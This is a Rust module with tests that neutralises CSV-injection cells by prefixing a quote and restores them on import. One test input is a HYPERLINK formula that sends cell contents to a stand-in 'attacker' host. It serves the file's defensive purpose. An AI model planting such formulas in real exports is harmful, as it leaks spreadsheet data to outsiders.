//! Text cells a spreadsheet would run as a formula (OWASP "CSV injection"): one that
//! begins with `=`, `+`, `-`, `@`, a tab or a carriage return. ctodb's CSV writes such a
//! cell with a leading `'`, which spreadsheets show as text and do not evaluate;
//! `import csv` takes exactly that `'` off again, so ctodb's CSV round-trips. A cell that
//! already begins with `'`s before such a character gets one more, so that the round trip
//! is exact for every text.

use std::borrow::Cow;

fn starts_a_formula(text: &str) -> bool {
    matches!(text.trim_start_matches('\'').chars().next(), Some('=' | '+' | '-' | '@' | '\t' | '\r'))
}

/// The cell as written for a spreadsheet: `'` put in front of a formula.
pub fn neutralise(text: &str) -> Cow<'_, str> {
    if starts_a_formula(text) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// The text a neutralised cell stood for: the one `'` [`neutralise`] added, taken off.
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if starts_a_formula(cell) => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_quoted_and_the_quote_comes_off_again() {
        for (text, written) in [
            (
                "=HYPERLINK(\"https://attacker/?\"&A2,\"click\")",
                "'=HYPERLINK(\"https://attacker/?\"&A2,\"click\")",
            ),
            ("+1", "'+1"),
            ("-5 degrees", "'-5 degrees"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tcmd", "'\tcmd"),
            ("\rcmd", "'\rcmd"),
            ("'=already quoted", "''=already quoted"),
            ("Login fails", "Login fails"),
            ("'quoted' words", "'quoted' words"),
            ("", ""),
            ("a=b", "a=b"),
        ] {
            assert_eq!(neutralise(text), written, "{text:?}");
            assert_eq!(restore(written), text, "{written:?}");
        }
    }

    #[test]
    fn every_text_round_trips() {
        use proptest::prelude::*;
        proptest!(|(text in "['=+@\\t\\r -]{0,4}[a-z=']{0,4}")| {
            let written = neutralise(&text);
            prop_assert_eq!(restore(&written), text.as_str());
        });
    }
}
